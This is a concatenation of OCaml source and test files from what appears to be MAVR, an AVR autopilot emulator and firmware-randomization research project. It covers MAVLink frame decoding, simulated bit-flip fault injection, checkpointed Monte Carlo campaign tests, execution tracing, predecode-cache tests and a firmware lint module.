  Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
  Buffer.contents buf

let encode ?crc_extra t = encode_with ~declared_len:(String.length t.payload) ?crc_extra t

let encode_raw ?crc_extra ~declared_len t = encode_with ~declared_len ?crc_extra t

type error = Bad_magic | Bad_crc of { got : int; expected : int } | Truncated

let pp_error fmt = function
  | Bad_magic -> Format.pp_print_string fmt "bad start magic"
  | Bad_crc { got; expected } -> Format.fprintf fmt "bad CRC: got 0x%04x, expected 0x%04x" got expected
  | Truncated -> Format.pp_print_string fmt "truncated frame"

let decode ?(crc_extra_of = Messages.crc_extra_of) ?(pos = 0) s =
  let n = String.length s - pos in
  if pos < 0 || pos > String.length s then invalid_arg "Frame.decode: pos out of range";
  if n < 1 then Error Truncated
  else if Char.code s.[pos] <> magic then Error Bad_magic
  else if n < header_len then Error Truncated
  else begin
    let len = Char.code s.[pos + 1] in
    let total = header_len + len + crc_len in
    if n < total then Error Truncated
    else begin
      let seq = Char.code s.[pos + 2] in
      let sysid = Char.code s.[pos + 3] in
      let compid = Char.code s.[pos + 4] in
      let msgid = Char.code s.[pos + 5] in
      let payload = String.sub s (pos + header_len) len in
      let crc =
        Crc.accumulate
          (Crc.accumulate_string Crc.init (String.sub s (pos + 1) (header_len - 1 + len)))
          (crc_extra_of msgid)
      in
      let expected = Crc.value crc in
      let got = Char.code s.[pos + total - 2] lor (Char.code s.[pos + total - 1] lsl 8) in
      if got <> expected then Error (Bad_crc { got; expected })
      else Ok ({ seq; sysid; compid; msgid; payload }, total)
    end
  end

let wire_length t = header_len + String.length t.payload + crc_len
