module Splitmix = Mavr_prng.Splitmix
module Metrics = Mavr_telemetry.Metrics
module Cpu = Mavr_avr.Cpu
module Memory = Mavr_avr.Memory
module Device = Mavr_avr.Device

type params = { sram_flip_ppm : int; flash_flip_ppm : int }

let off = { sram_flip_ppm = 0; flash_flip_ppm = 0 }
let is_off p = p.sram_flip_ppm = 0 && p.flash_flip_ppm = 0

type stats = { sram_flips : int; flash_flips : int }

type t = {
  params : params;
  rng : Splitmix.t;
  mutable sram_flips : int;
  mutable flash_flips : int;
}

let create ~rng params = { params; rng; sram_flips = 0; flash_flips = 0 }
let stats t = { sram_flips = t.sram_flips; flash_flips = t.flash_flips }
let hit rng ppm = ppm > 0 && Splitmix.int rng 1_000_000 < ppm

let flip_sram t cpu =
  let dev = Cpu.device cpu in
  let addr = dev.Device.sram_base + Splitmix.int t.rng dev.Device.sram_bytes in
  let bit = Splitmix.int t.rng 8 in
  Cpu.data_poke cpu addr (Cpu.data_peek cpu addr lxor (1 lsl bit));
  t.sram_flips <- t.sram_flips + 1

(* A flash upset rewrites the whole victim page with one bit changed:
   [flash_write_page] is the only mutation path, and going through it
   keeps the wear ledger and the decode-cache epoch honest. *)
let flip_flash t cpu =
  let size = Cpu.program_size cpu in
  if size > 0 then begin
    let mem = Cpu.mem cpu in
    let dev = Cpu.device cpu in
    let page = dev.Device.flash_page_bytes in
    let victim = Splitmix.int t.rng size in
    let bit = Splitmix.int t.rng 8 in
    let page_addr = victim / page * page in
    let buf = Bytes.create page in
    for i = 0 to page - 1 do
      Bytes.set buf i (Char.chr (Memory.flash_byte mem (page_addr + i)))
    done;
    let off = victim - page_addr in
    Bytes.set buf off (Char.chr (Char.code (Bytes.get buf off) lxor (1 lsl bit)));
    Memory.flash_write_page mem ~page_addr (Bytes.to_string buf);
    t.flash_flips <- t.flash_flips + 1
  end

let tick t cpu =
  if hit t.rng t.params.sram_flip_ppm then flip_sram t cpu;
  if hit t.rng t.params.flash_flip_ppm then flip_flash t cpu

let attach_metrics ~prefix t registry =
  Metrics.sampled_counter registry (prefix ^ ".sram_flips") (fun () -> t.sram_flips);
  Metrics.sampled_counter registry (prefix ^ ".flash_flips") (fun () -> t.flash_flips)
