(** Single-event-upset model: transient bit flips in the application
    processor's SRAM and flash between simulation ticks.

    {e Glitch in the Sky} demonstrates transient faults as a first-class
    UAV threat; this module reproduces that fault class on the emulated
    ATmega2560 so MAVR's detection pipeline can be measured against
    non-adversarial silicon faults.  SRAM flips go through
    [Cpu.data_poke] (register file and I/O space excluded — upsets hit
    the big arrays, not latched I/O); flash flips rewrite the affected
    page through [Memory.flash_write_page], which bumps the flash epoch
    and therefore invalidates the predecode cache exactly as a real
    reflash would. *)

type params = {
  sram_flip_ppm : int;  (** per tick: chance of one SRAM bit flip *)
  flash_flip_ppm : int;  (** per tick: chance of one flash bit flip *)
}

val off : params
val is_off : params -> bool

type stats = { sram_flips : int; flash_flips : int }
type t

val create : rng:Mavr_prng.Splitmix.t -> params -> t
val stats : t -> stats

(** [tick t cpu] possibly injects one SRAM and/or one flash upset.
    Flash flips are confined to the programmed image extent
    ([Cpu.program_size]); no-op on an empty image. *)
val tick : t -> Mavr_avr.Cpu.t -> unit

val attach_metrics : prefix:string -> t -> Mavr_telemetry.Metrics.registry -> unit
