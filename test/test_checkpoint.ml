(* PR 9's resumable-campaign contract: checkpointed Monte Carlo runs
   resume bit-identically after an interruption, corrupt or mismatched
   checkpoints are refused, adaptive early stopping accounts for every
   skipped trial without touching non-stopped cells, pool stats stay
   coherent under concurrent readers, and the progress stream always
   ends with its final line. *)

module Checkpoint = Mavr_campaign.Checkpoint
module Early_stop = Mavr_campaign.Early_stop
module Progress = Mavr_campaign.Progress
module Pool = Mavr_campaign.Pool
module Clock = Mavr_campaign.Clock
module Montecarlo = Mavr_sim.Montecarlo
module Metrics = Mavr_telemetry.Metrics
module Json = Mavr_telemetry.Json

let profile_name = Helpers.tiny_profile.Mavr_firmware.Profile.name
let build = Helpers.build_mavr

let spec ?early_stop ~trials () =
  Montecarlo.checkpoint_spec ~ms:600 ?early_stop ~profile:profile_name ~seed:11 ~trials ()

let grid_json g = Json.to_string (Montecarlo.to_json g)

let tmp name =
  let path = Filename.temp_file ("mavr_ck_" ^ name) ".jsonl" in
  at_exit (fun () -> try Sys.remove path with Sys_error _ -> ());
  path

let read_lines path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  String.split_on_char '\n' s |> List.filter (fun l -> String.trim l <> "")

let write_lines path lines =
  let oc = open_out_bin path in
  List.iter
    (fun l ->
      output_string oc l;
      output_char oc '\n')
    lines;
  close_out oc

(* ---- checkpoint writer / loader ------------------------------------- *)

let test_spec_hash_sensitivity () =
  let base = spec ~trials:1 () in
  let bump mk = Alcotest.(check bool) "hash differs" false ((mk ()).Checkpoint.spec_hash = base.Checkpoint.spec_hash) in
  bump (fun () -> Montecarlo.checkpoint_spec ~ms:601 ~profile:profile_name ~seed:11 ~trials:1 ());
  bump (fun () -> Montecarlo.checkpoint_spec ~ms:600 ~profile:profile_name ~seed:12 ~trials:1 ());
  bump (fun () -> Montecarlo.checkpoint_spec ~ms:600 ~profile:profile_name ~seed:11 ~trials:2 ());
  bump (fun () -> Montecarlo.checkpoint_spec ~ms:600 ~profile:profile_name ~seed:11 ~trials:1 ~traced:true ());
  bump (fun () ->
      Montecarlo.checkpoint_spec ~ms:600 ~profile:profile_name ~seed:11 ~trials:1
        ~early_stop:(Early_stop.create ~target:0.3 ()) ())

let test_checkpoint_roundtrip () =
  let path = tmp "roundtrip" in
  let s = spec ~trials:1 () in
  let ck = Checkpoint.create ~path ~every:1 s in
  Checkpoint.record ck ~index:3 (Json.Obj [ ("x", Json.Int 3) ]);
  Checkpoint.skip ck ~index:7 ~reason:"early_stop";
  Checkpoint.close ck;
  match Checkpoint.load ~path with
  | Error e -> Alcotest.failf "load failed: %s" e
  | Ok (file_spec, entries) ->
      Alcotest.(check string) "spec hash" s.Checkpoint.spec_hash file_spec.Checkpoint.spec_hash;
      Alcotest.(check int) "entries" 2 (List.length entries);
      (match List.assoc 3 entries with
      | Checkpoint.Result (Json.Obj [ ("x", Json.Int 3) ]) -> ()
      | _ -> Alcotest.fail "result entry mangled");
      (match List.assoc 7 entries with
      | Checkpoint.Skip "early_stop" -> ()
      | _ -> Alcotest.fail "skip entry mangled")

(* ---- resume determinism --------------------------------------------- *)

let baseline = lazy (Montecarlo.run ~jobs:1 ~ms:600 ~seed:11 ~trials:1 (build ()))

(* A complete checkpointed run; the snapshot file (sorted by index) is the
   source we truncate to simulate a crash after K completed tasks. *)
let full_run =
  lazy
    (let path = tmp "full" in
     let ck = Checkpoint.create ~path ~every:1 (spec ~trials:1 ()) in
     let g = Montecarlo.run ~jobs:1 ~ms:600 ~seed:11 ~trials:1 ~checkpoint:ck (build ()) in
     Checkpoint.close ck;
     (path, g))

let test_checkpointing_does_not_perturb () =
  let _, g = Lazy.force full_run in
  Alcotest.(check string) "checkpointed == plain" (grid_json (Lazy.force baseline)) (grid_json g)

let test_resume_bit_identical () =
  let full_path, _ = Lazy.force full_run in
  let expect = grid_json (Lazy.force baseline) in
  let lines = read_lines full_path in
  let header, entries =
    match lines with h :: rest -> (h, rest) | [] -> Alcotest.fail "empty checkpoint"
  in
  let tasks = List.length entries in
  List.iter
    (fun k ->
      List.iter
        (fun jobs ->
          let path = tmp (Printf.sprintf "k%d_j%d" k jobs) in
          write_lines path (header :: List.filteri (fun i _ -> i < k) entries);
          match Checkpoint.resume ~path (spec ~trials:1 ()) with
          | Error e -> Alcotest.failf "resume (k=%d) failed: %s" k e
          | Ok ck ->
              Alcotest.(check int) (Printf.sprintf "k=%d primed" k) k (Checkpoint.completed ck);
              let g = Montecarlo.run ~jobs ~ms:600 ~seed:11 ~trials:1 ~checkpoint:ck (build ()) in
              Checkpoint.close ck;
              Alcotest.(check string)
                (Printf.sprintf "resumed k=%d jobs=%d == uninterrupted" k jobs)
                expect (grid_json g);
              Alcotest.(check int)
                (Printf.sprintf "k=%d frontier complete" k)
                tasks (Checkpoint.completed ck))
        [ 1; 4 ])
    [ 1; 5; 11 ]

(* Replace every occurrence of [sub] in [s] (tiny, Str-free). *)
let replace_sub ~sub ~by s =
  let b = Buffer.create (String.length s) in
  let n = String.length sub in
  let i = ref 0 in
  while !i <= String.length s - n do
    if String.sub s !i n = sub then begin
      Buffer.add_string b by;
      i := !i + n
    end
    else begin
      Buffer.add_char b s.[!i];
      incr i
    end
  done;
  Buffer.add_string b (String.sub s !i (String.length s - !i));
  Buffer.contents b

let test_resume_rejects_corruption () =
  let full_path, _ = Lazy.force full_run in
  let lines = read_lines full_path in
  let reject name mutate =
    let path = tmp name in
    write_lines path (mutate lines);
    match Checkpoint.resume ~path (spec ~trials:1 ()) with
    | Error _ -> ()
    | Ok _ -> Alcotest.failf "%s: corrupt checkpoint accepted" name
  in
  reject "empty" (fun _ -> []);
  reject "no-header" List.tl;
  reject "bad-json" (fun ls -> ls @ [ "{truncated" ]);
  reject "unknown-kind" (List.map (replace_sub ~sub:"\"kind\":\"task\"" ~by:"\"kind\":\"bogus\""));
  reject "duplicate-index" (fun ls -> ls @ [ List.nth ls 1 ]);
  reject "result-missing" (List.map (replace_sub ~sub:"\"result\"" ~by:"\"resul7\""));
  (* A structurally valid file from a different campaign configuration. *)
  let path = tmp "mismatch" in
  write_lines path lines;
  (match Checkpoint.resume ~path (spec ~trials:2 ()) with
  | Error _ -> ()
  | Ok _ -> Alcotest.fail "spec mismatch accepted")

(* ---- early stopping -------------------------------------------------- *)

let test_wilson_basics () =
  let lo, hi = Early_stop.wilson ~z:1.96 ~n:0 ~k:0 in
  Alcotest.(check (pair (float 1e-9) (float 1e-9))) "vacuous interval" (0.0, 1.0) (lo, hi);
  let lo, hi = Early_stop.wilson ~z:1.96 ~n:100 ~k:50 in
  Alcotest.(check bool) "brackets the estimate" true (lo < 0.5 && 0.5 < hi);
  let hw10 = Early_stop.halfwidth ~z:1.96 ~n:10 ~k:5 in
  let hw1000 = Early_stop.halfwidth ~z:1.96 ~n:1000 ~k:500 in
  Alcotest.(check bool) "narrows with n" true (hw1000 < hw10);
  let es = Early_stop.create ~target:0.2 ~min_trials:8 () in
  Alcotest.(check bool) "never before min_trials" false (Early_stop.should_stop es ~n:7 ~k:0);
  Alcotest.(check bool) "certain cell stops at min" true (Early_stop.should_stop es ~n:20 ~k:0)

let test_early_stop_never_fires_is_identity () =
  let g_plain = Lazy.force baseline in
  (* An unattainable halfwidth target: the policy is armed but no cell can
     ever stop, so every cell's record must be byte-identical to the
     policy-free run. *)
  let es = Early_stop.create ~target:1e-9 () in
  let g_es = Montecarlo.run ~jobs:2 ~ms:600 ~seed:11 ~trials:1 ~early_stop:es (build ()) in
  Alcotest.(check bool) "levels identical" true (g_plain.Montecarlo.levels = g_es.Montecarlo.levels);
  Alcotest.(check int) "nothing skipped" 0 g_es.Montecarlo.trials_skipped;
  Alcotest.(check bool) "metrics identical" true
    (Metrics.snapshot g_plain.Montecarlo.metrics = Metrics.snapshot g_es.Montecarlo.metrics)

let es_grid =
  lazy
    (let path = tmp "es" in
     let es = Early_stop.create ~target:0.3 () in
     let ck = Checkpoint.create ~path ~every:4 (spec ~early_stop:es ~trials:12 ()) in
     let g = Montecarlo.run ~jobs:1 ~ms:400 ~seed:11 ~trials:12 ~early_stop:es ~checkpoint:ck (build ()) in
     Checkpoint.close ck;
     (path, es, g))

let test_early_stop_accounting () =
  let path, _, g = Lazy.force es_grid in
  Alcotest.(check bool) "some trials saved" true (g.Montecarlo.trials_skipped > 0);
  let skipped = ref 0 in
  Array.iter
    (fun (lvl : Montecarlo.level_result) ->
      Array.iter
        (fun (c : Montecarlo.cell) ->
          Alcotest.(check int) "cell budget" 12 (c.Montecarlo.trials + c.Montecarlo.skipped);
          skipped := !skipped + c.Montecarlo.skipped)
        lvl.Montecarlo.cells;
      Array.iter
        (fun (c : Montecarlo.control) ->
          Alcotest.(check int) "control budget" 12 (c.Montecarlo.flights + c.Montecarlo.skipped);
          skipped := !skipped + c.Montecarlo.skipped)
        lvl.Montecarlo.controls)
    g.Montecarlo.levels;
  Alcotest.(check int) "per-cell skips sum to total" g.Montecarlo.trials_skipped !skipped;
  (* The checkpoint accounts for every task: a result or an explicit skip. *)
  match Checkpoint.load ~path with
  | Error e -> Alcotest.failf "load failed: %s" e
  | Ok (file_spec, entries) ->
      Alcotest.(check int) "full coverage" file_spec.Checkpoint.tasks (List.length entries);
      let skips =
        List.length (List.filter (function _, Checkpoint.Skip _ -> true | _ -> false) entries)
      in
      Alcotest.(check int) "skip entries match" g.Montecarlo.trials_skipped skips

let test_early_stop_jobs_invariant () =
  let _, es, g1 = Lazy.force es_grid in
  let g4 = Montecarlo.run ~jobs:4 ~ms:400 ~seed:11 ~trials:12 ~early_stop:es (build ()) in
  Alcotest.(check string) "stop decisions scheduling-free" (grid_json g1) (grid_json g4)

let test_early_stop_resume () =
  (* Resume replays the full early-stopped trajectory: prime from the
     complete checkpoint, run again, get the identical document without
     re-flying anything. *)
  let path, es, g = Lazy.force es_grid in
  match Checkpoint.resume ~path (spec ~early_stop:es ~trials:12 ()) with
  | Error e -> Alcotest.failf "resume failed: %s" e
  | Ok ck ->
      let g2 = Montecarlo.run ~jobs:2 ~ms:400 ~seed:11 ~trials:12 ~early_stop:es ~checkpoint:ck (build ()) in
      Alcotest.(check string) "resumed early-stopped run identical" (grid_json g) (grid_json g2)

(* ---- pool stats under concurrent readers ----------------------------- *)

let test_pool_stats_live () =
  Pool.with_pool ~jobs:4 (fun pool ->
      let stop = Atomic.make false in
      let reads = Atomic.make 0 in
      (* A racing reader, as the progress heartbeat is: stats must stay
         readable (and sane) while worker domains update their slots. *)
      let reader =
        Domain.spawn (fun () ->
            while not (Atomic.get stop) do
              let st = Pool.stats pool in
              Array.iter
                (fun (d : Pool.domain_stats) ->
                  assert (d.Pool.tasks_run >= 0);
                  assert (d.Pool.busy_s >= 0.0))
                st;
              Atomic.incr reads;
              Domain.cpu_relax ()
            done)
      in
      let tasks = 400 in
      let sink = Atomic.make 0 in
      Pool.run pool ~tasks (fun i -> Atomic.fetch_and_add sink i |> ignore);
      (* The pool may drain 400 trivial tasks before the reader domain is
         even scheduled — only stop it once it has sampled at least once. *)
      while Atomic.get reads = 0 do
        Domain.cpu_relax ()
      done;
      Atomic.set stop true;
      Domain.join reader;
      let st = Pool.stats pool in
      let total = Array.fold_left (fun a (d : Pool.domain_stats) -> a + d.Pool.tasks_run) 0 st in
      Alcotest.(check int) "every task counted exactly once" tasks total)

(* ---- progress final line --------------------------------------------- *)

let test_progress_terminal_heartbeat () =
  (* With a huge interval, every mid-run heartbeat after the first is
     suppressed — the frontier completion alone must still produce the
     final line.  (Before the fix, task_done only emitted inside the
     interval gate, so a quiet stream simply ended without one.) *)
  let lines = ref [] in
  let p = Progress.create ~interval_s:1e9 ~sink:(fun l -> lines := l :: !lines) () in
  Progress.add_total p 3;
  Progress.task_done p;
  Progress.task_done p;
  Progress.task_done p;
  (* First completion heartbeats (fresh stream), second is gated out,
     third crosses the frontier: exactly two lines, the last one final. *)
  Alcotest.(check int) "gated stream" 2 (List.length !lines);
  match !lines with
  | last :: _ -> (
      match Json.of_string last with
      | Error e -> Alcotest.failf "bad line: %s" e
      | Ok j ->
          Alcotest.(check (option string)) "reason" (Some "final")
            (Option.bind (Json.member "reason" j) Json.to_str);
          Alcotest.(check (option int)) "done" (Some 3)
            (Option.bind (Json.member "done" j) Json.to_int))
  | [] -> Alcotest.fail "no lines emitted"

let test_progress_final_under_contention () =
  (* Pin the sink lock (via a provider that blocks inside an emission on
     another domain) while the last task completes: the frontier emission
     must wait for the lock and still deliver the final line.  Before the
     fix task_done used try_lock unconditionally, so this interleaving
     silently dropped it. *)
  let lines = ref [] in
  let p = Progress.create ~interval_s:0.0 ~sink:(fun l -> lines := l :: !lines) () in
  Progress.add_total p 1;
  let in_provider = Atomic.make false and release = Atomic.make false in
  Progress.on_heartbeat p (fun () ->
      if not (Atomic.get release) then begin
        Atomic.set in_provider true;
        while not (Atomic.get release) do
          Domain.cpu_relax ()
        done
      end;
      []);
  let emitter = Domain.spawn (fun () -> Progress.emit p ~reason:"start") in
  while not (Atomic.get in_provider) do
    Domain.cpu_relax ()
  done;
  let finisher = Domain.spawn (fun () -> Progress.task_done p) in
  (* Let the finisher reach the contended lock before releasing it. *)
  let t0 = Clock.wall () in
  while Clock.wall () -. t0 < 0.05 do
    Domain.cpu_relax ()
  done;
  Atomic.set release true;
  Domain.join emitter;
  Domain.join finisher;
  match !lines with
  | last :: _ -> (
      match Json.of_string last with
      | Error e -> Alcotest.failf "bad line: %s" e
      | Ok j ->
          Alcotest.(check (option string)) "last line is final" (Some "final")
            (Option.bind (Json.member "reason" j) Json.to_str);
          Alcotest.(check (option int)) "at done=total" (Some 1)
            (Option.bind (Json.member "done" j) Json.to_int))
  | [] -> Alcotest.fail "no lines emitted at all"

(* ---- snapshot durability (PR 10) ------------------------------------- *)

let tmp_siblings path =
  let dir = Filename.dirname path and base = Filename.basename path in
  Sys.readdir dir |> Array.to_list
  |> List.filter (fun name ->
         String.starts_with ~prefix:(base ^ ".") name && Filename.check_suffix name ".tmp")

(* Snapshot temp files are pid-unique and stale ones (from crashed
   processes — including the legacy fixed [path ^ ".tmp"] name that
   collided across processes) are swept on both [create] and [resume];
   a healthy snapshot never leaves a temp file behind. *)
let test_tmp_hygiene () =
  let path = tmp "tmphygiene" in
  let plant () =
    write_lines (path ^ ".tmp") [ "stale legacy tmp" ];
    write_lines (path ^ ".99999.tmp") [ "stale pid tmp" ]
  in
  plant ();
  let sp = spec ~trials:1 () in
  let ck = Checkpoint.create ~path ~every:1 sp in
  Alcotest.(check (list string)) "create sweeps stale tmps" [] (tmp_siblings path);
  Checkpoint.record ck ~index:0 (Json.Obj [ ("v", Json.Int 0) ]);
  Checkpoint.close ck;
  Alcotest.(check (list string)) "snapshots leave no tmp behind" [] (tmp_siblings path);
  plant ();
  (match Checkpoint.resume ~path sp with
  | Ok _ -> ()
  | Error e -> Alcotest.fail ("resume failed: " ^ e));
  Alcotest.(check (list string)) "resume sweeps stale tmps" [] (tmp_siblings path)

(* A snapshot whose commit rename fails (here: the target path is a
   directory, standing in for ENOSPC/EIO) must raise — and must not
   leak its temp file. *)
let test_snapshot_failure_unlinks_tmp () =
  let dirpath = Filename.temp_file "mavr_ck_dirtarget" "" in
  Sys.remove dirpath;
  Unix.mkdir dirpath 0o755;
  at_exit (fun () -> try Unix.rmdir dirpath with Unix.Unix_error _ | Sys_error _ -> ());
  (match Checkpoint.create ~path:dirpath (spec ~trials:1 ()) with
  | (_ : Checkpoint.t) -> Alcotest.fail "snapshot over a directory should fail"
  | exception Sys_error _ -> ()
  | exception Unix.Unix_error _ -> ());
  Alcotest.(check (list string)) "failed snapshot leaves no tmp" [] (tmp_siblings dirpath)

let () =
  Alcotest.run "checkpoint"
    [
      ( "writer",
        [
          Alcotest.test_case "spec hash sensitivity" `Quick test_spec_hash_sensitivity;
          Alcotest.test_case "record/skip round-trip" `Quick test_checkpoint_roundtrip;
        ] );
      ( "resume",
        [
          Alcotest.test_case "checkpointing does not perturb" `Slow
            test_checkpointing_does_not_perturb;
          Alcotest.test_case "bit-identical resume (K x jobs)" `Slow test_resume_bit_identical;
          Alcotest.test_case "corruption rejected" `Slow test_resume_rejects_corruption;
        ] );
      ( "early-stop",
        [
          Alcotest.test_case "wilson interval basics" `Quick test_wilson_basics;
          Alcotest.test_case "never-fires is identity" `Slow
            test_early_stop_never_fires_is_identity;
          Alcotest.test_case "skip accounting" `Slow test_early_stop_accounting;
          Alcotest.test_case "jobs-invariant decisions" `Slow test_early_stop_jobs_invariant;
          Alcotest.test_case "resume replays trajectory" `Slow test_early_stop_resume;
        ] );
      ( "durability",
        [
          Alcotest.test_case "tmp files pid-unique and swept" `Quick test_tmp_hygiene;
          Alcotest.test_case "failed snapshot leaks no tmp" `Quick
            test_snapshot_failure_unlinks_tmp;
        ] );
      ("pool", [ Alcotest.test_case "stats under live readers" `Quick test_pool_stats_live ]);
      ( "progress",
        [
          Alcotest.test_case "terminal heartbeat guaranteed" `Quick
            test_progress_terminal_heartbeat;
          Alcotest.test_case "final line under lock contention" `Quick
            test_progress_final_under_contention;
        ] );
    ]
