(** Execution and stack tracing.

    Captures the artefacts the paper displays: per-instruction execution
    traces and the labelled stack-window snapshots of Fig. 6 ("stack
    progression during attack"). *)

(** A labelled snapshot of a data-space window. *)
type stack_snapshot = {
  label : string;
  window_start : int;  (** data-space address of the first byte shown *)
  bytes : string;
  sp_at : int;  (** stack pointer when the snapshot was taken *)
}

val snapshot : Cpu.t -> label:string -> window_start:int -> window_len:int -> stack_snapshot

(** Renders in the paper's Fig. 6 style: rows of eight hex bytes prefixed
    with the row's data-space address. *)
val pp_snapshot : Format.formatter -> stack_snapshot -> unit

(** {2 Instruction tracing} *)

type event = { byte_addr : int; insn : Isa.t; sp_before : int; cycle : int }

type recorder

(** [recorder ~limit] keeps the most recent [limit] events. *)
val recorder : limit:int -> recorder

(** [attach rec cpu] installs the recorder on the CPU's instruction tap:
    every instruction executed by {e any} entry point — [Cpu.step] or the
    batched [Cpu.run] family — is recorded, with the decode taken from
    the predecode cache.  Replaces any previously installed instruction
    tap. *)
val attach : recorder -> Cpu.t -> unit

(** [detach cpu] uninstalls the instruction tap. *)
val detach : Cpu.t -> unit

(** [step_traced rec cpu] records and executes one instruction —
    equivalent to [attach]/[Cpu.step]/[detach].  Kept for callers that
    interleave tracing with other work; batch users should [attach] once
    and use [Cpu.run]. *)
val step_traced : recorder -> Cpu.t -> unit

(** Events oldest-first. *)
val events : recorder -> event list

val pp_event : Format.formatter -> event -> unit
