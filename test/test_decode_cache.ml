(* Predecode-cache equivalence: dispatching from the cache must be
   architecturally invisible on the real firmware images — identical
   registers, SREG, SP, PC, cycle count, and halt reason to decoding
   every instruction from flash — and the cache must never survive a
   reflash (the per-lifetime re-randomization path). *)

module Cpu = Mavr_avr.Cpu
module Memory = Mavr_avr.Memory
module Opcode = Mavr_avr.Opcode
module Isa = Mavr_avr.Isa
module Device = Mavr_avr.Device
module Image = Mavr_obj.Image
module F = Mavr_firmware

let arch_state cpu =
  ( Cpu.pc cpu,
    Cpu.sp cpu,
    Cpu.sreg cpu,
    Cpu.cycles cpu,
    Cpu.instructions_retired cpu,
    Cpu.halted cpu,
    List.init 32 (Cpu.reg cpu) )

let boot_pair (image : Image.t) =
  let mk cache =
    let cpu = Cpu.create () in
    Cpu.set_decode_cache cpu cache;
    Cpu.load_program cpu image.Image.code;
    cpu
  in
  (mk true, mk false)

let check_same name cached raw =
  Alcotest.(check bool) (name ^ ": architectural state identical") true
    (arch_state cached = arch_state raw)

let test_firmware_profiles_identical () =
  (* Run each toolchain variant of the tiny profile for a full firmware
     slice (boot, MAVLink traffic, telemetry), comparing end states. *)
  List.iter
    (fun (name, build) ->
      let b : F.Build.t = build () in
      let cached, raw = boot_pair b.F.Build.image in
      let frame =
        Mavr_mavlink.Frame.encode
          { Mavr_mavlink.Frame.seq = 1; sysid = 255; compid = 0; msgid = 76; payload = "go" }
      in
      Cpu.uart_send cached frame;
      Cpu.uart_send raw frame;
      ignore (Cpu.run_until_halt cached ~max_cycles:400_000);
      ignore (Cpu.run_until_halt raw ~max_cycles:400_000);
      check_same name cached raw;
      Alcotest.(check string) (name ^ ": identical telemetry")
        (Cpu.uart_take_tx raw) (Cpu.uart_take_tx cached))
    [
      ("mavr", Helpers.build_mavr);
      ("stock", Helpers.build_stock);
      ("patched", Helpers.build_patched);
    ]

let test_identical_across_reflash_lifetimes () =
  (* Drive both CPUs through randomized reflash lifetimes: every
     generation is a different image at the same flash epoch cadence the
     MAVR master produces, so any stale decode served after a reflash
     diverges the pair. *)
  let b = Helpers.build_mavr () in
  let cached, raw = boot_pair b.F.Build.image in
  for generation = 1 to 4 do
    let r = Mavr_core.Randomize.randomize ~seed:(generation * 31) b.F.Build.image in
    Cpu.load_program cached r.Image.code;
    Cpu.load_program raw r.Image.code;
    ignore (Cpu.run_until_halt cached ~max_cycles:150_000);
    ignore (Cpu.run_until_halt raw ~max_cycles:150_000);
    check_same (Printf.sprintf "generation %d" generation) cached raw
  done

let test_cache_invalidated_on_load_program () =
  (* Same CPU, two programs: after a reflash the cached CPU must execute
     the new code, not stale decodes of the old. *)
  let prog insns = String.concat "" (List.map Opcode.encode_bytes insns) in
  let cpu = Cpu.create () in
  Cpu.set_decode_cache cpu true;
  Cpu.load_program cpu (prog Isa.[ Ldi (16, 0x11); Break ]);
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "first program ran" 0x11 (Cpu.reg cpu 16);
  Cpu.load_program cpu (prog Isa.[ Ldi (16, 0x22); Break ]);
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "reflash executes new code" 0x22 (Cpu.reg cpu 16)

let test_cache_invalidated_on_flash_page_write () =
  (* A bootloader-style page write must also bump the flash epoch and
     drop cached decodes. *)
  let prog insns = String.concat "" (List.map Opcode.encode_bytes insns) in
  let cpu = Cpu.create () in
  Cpu.set_decode_cache cpu true;
  let page = (Cpu.device cpu).Device.flash_page_bytes in
  let pad code = code ^ String.make (page - String.length code) '\xff' in
  Cpu.load_program cpu (pad (prog Isa.[ Ldi (16, 0x11); Break ]));
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "first program ran" 0x11 (Cpu.reg cpu 16);
  Memory.flash_write_page (Cpu.mem cpu) ~page_addr:0
    (pad (prog Isa.[ Ldi (16, 0x33); Break ]));
  Cpu.reset cpu;
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "page write executes new code" 0x33 (Cpu.reg cpu 16)

let test_disabled_cache_still_correct () =
  (* The escape hatch: with the cache off the CPU must behave
     identically (it is the reference the differential checks lean on). *)
  let cpu = Cpu.create () in
  Cpu.set_decode_cache cpu false;
  Alcotest.(check bool) "reports disabled" false (Cpu.decode_cache_enabled cpu);
  Cpu.load_program cpu
    (String.concat "" (List.map Opcode.encode_bytes Isa.[ Ldi (20, 0x5A); Break ]));
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "runs uncached" 0x5A (Cpu.reg cpu 20)

let () =
  Alcotest.run "decode-cache"
    [
      ( "equivalence",
        [
          Alcotest.test_case "firmware profiles identical" `Quick
            test_firmware_profiles_identical;
          Alcotest.test_case "identical across reflash lifetimes" `Quick
            test_identical_across_reflash_lifetimes;
        ] );
      ( "invalidation",
        [
          Alcotest.test_case "load_program invalidates" `Quick
            test_cache_invalidated_on_load_program;
          Alcotest.test_case "flash page write invalidates" `Quick
            test_cache_invalidated_on_flash_page_write;
          Alcotest.test_case "cache can be disabled" `Quick test_disabled_cache_still_correct;
        ] );
    ]
