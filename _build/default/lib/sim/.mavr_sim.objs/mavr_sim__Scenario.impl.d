lib/sim/scenario.ml: Dynamics Float Format Groundstation List Mavr_avr Mavr_core Mavr_obj Sensors
