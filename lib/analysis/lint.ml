module Isa = Mavr_avr.Isa
module Decode = Mavr_avr.Decode
module Device = Mavr_avr.Device
module Disasm = Mavr_avr.Disasm
module Image = Mavr_obj.Image
module Json = Mavr_telemetry.Json

type kind =
  | Target_out_of_bounds
  | Target_undecodable
  | Target_mid_instruction
  | Vector_not_jmp
  | Vector_target_not_function
  | Funptr_out_of_bounds
  | Funptr_not_function
  | Stray_sp_write
  | Unbounded_uplink_copy

type finding = { kind : kind; addr : int; target : int option; detail : string; context : string }

let kind_name = function
  | Target_out_of_bounds -> "target_out_of_bounds"
  | Target_undecodable -> "target_undecodable"
  | Target_mid_instruction -> "target_mid_instruction"
  | Vector_not_jmp -> "vector_not_jmp"
  | Vector_target_not_function -> "vector_target_not_function"
  | Funptr_out_of_bounds -> "funptr_out_of_bounds"
  | Funptr_not_function -> "funptr_not_function"
  | Stray_sp_write -> "stray_sp_write"
  | Unbounded_uplink_copy -> "unbounded_uplink_copy"

(* A three-line disassembly listing starting at the offending address. *)
